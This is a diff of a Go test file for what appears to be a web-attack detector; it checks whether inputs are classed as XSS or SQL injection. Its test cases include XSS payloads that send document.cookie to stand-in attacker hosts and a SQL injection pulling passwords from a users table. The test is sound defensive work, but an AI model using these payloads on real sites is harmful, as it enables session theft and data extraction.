@@ -73,3 +73,34 @@ func TestGrammarCatches(t *testing.T) {
 		})
 	}
 }
+
+// TestClassifiesByFirstSignal checks the class of the first (deciding)
+// signal where two readings compete: an HTML element whose attribute
+// quoting also fingerprints as SQL is XSS; SQL that happens to contain
+// "<" stays SQL injection.
+func TestClassifiesByFirstSignal(t *testing.T) {
+	e := New(Options{})
+	json := func(key, text string) event.Value {
+		return event.Value{Part: event.PartBody, Location: "body." + key, Key: key, Text: text, Record: -1}
+	}
+	cases := []struct {
+		name string
+		v    event.Value
+		want Class
+	}{
+		{"img onerror fetch cookie in json", json("comment", `<img src=x onerror="fetch('//attacker.example/'+document.cookie)">`), XSS},
+		{"img onerror alert", json("comment", `<img src=x onerror=alert(1)>`), XSS},
+		{"svg onload quoted", q("q", `<svg/onload="location='//x.example/?c='+document.cookie">`), XSS},
+		{"script element with sql-looking body", q("q", `<script>x='1' or '1'='1'</script>`), XSS},
+		{"sql with less-than", q("id", "1 AND 2<3 UNION SELECT password FROM users--"), SQLi},
+		{"sql quote breakout with comparison", q("id", "' OR 1<2--"), SQLi},
+	}
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			sigs := e.Inspect(tc.v, nil)
+			if len(sigs) == 0 || sigs[0].Class != tc.want {
+				t.Errorf("Inspect(%q) = [%s], want first class %s", tc.v.Text, classes(sigs), tc.want)
+			}
+		})
+	}
+}
